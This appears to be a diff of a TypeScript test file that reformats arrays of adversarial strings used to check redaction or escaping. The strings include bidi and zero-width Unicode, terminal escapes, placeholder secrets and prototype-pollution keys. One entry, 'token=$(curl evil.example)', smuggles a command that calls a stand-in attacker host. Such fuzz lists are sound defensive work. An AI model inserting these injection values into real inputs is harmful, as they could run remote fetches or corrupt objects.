@@ -69,46 +69,11 @@ function sent(shown: unknown): unknown {
 }
 
 const PIECES = [
-  ...[
-    'a',
-    ' ',
-    '\\',
-    '\\\\',
-    '\\u{202e}',
-    '\\u{',
-    'u{61}',
-    '{',
-    '}',
-    '"',
-    '\n',
-    '\r',
-    '\r\n',
-    '\t',
-    '\u0000',
-    '\u001b[2J',
-  ],
-  ...['\u202e', '\u2066', '\u200b', '\u200d', '\u200f', '\u00ad', '\u3164', '\u2028', '\u2063', '\ufe0f', '\u{e0061}'],
-  ...[
-    '\ud800',
-    '\udc00',
-    '❤',
-    '👩',
-    'ش',
-    'क',
-    '葛',
-    '\u{e0100}',
-    '\u{1f3f4}',
-    'token=$(curl evil.example)',
-    'password: ',
-  ],
-  ...[
-    'joe@example.org',
-    'Bearer abcdefgh12345678',
-    'sk-abcdefghijklmnop1234',
-    '4111 1111 1111 1111',
-    '://a:b@c',
-    '[redacted]',
-  ],
+  ...['a', ' ', '\\', '\\\\', '\\u{202e}', '\\u{', 'u{61}', '{', '}', '"', '\n', '\r', '\r\n', '\t', '\u0000'],
+  ...['\u001b[2J', '\u202e', '\u2066', '\u200b', '\u200d', '\u200f', '\u00ad', '\u3164', '\u2028', '\u2063'],
+  ...['\ufe0f', '\u{e0061}', '\ud800', '\udc00', '❤', '👩', 'ش', 'क', '葛', '\u{e0100}', '\u{1f3f4}'],
+  ...['token=$(curl evil.example)', 'password: ', 'joe@example.org', 'Bearer abcdefgh12345678'],
+  ...['sk-abcdefghijklmnop1234', '4111 1111 1111 1111', '://a:b@c', '[redacted]'],
 ];
 const NAMES = ['password', 'token', 'x', '__proto__', 'constructor', '7', 'toJSON', 'Authorization'];
 
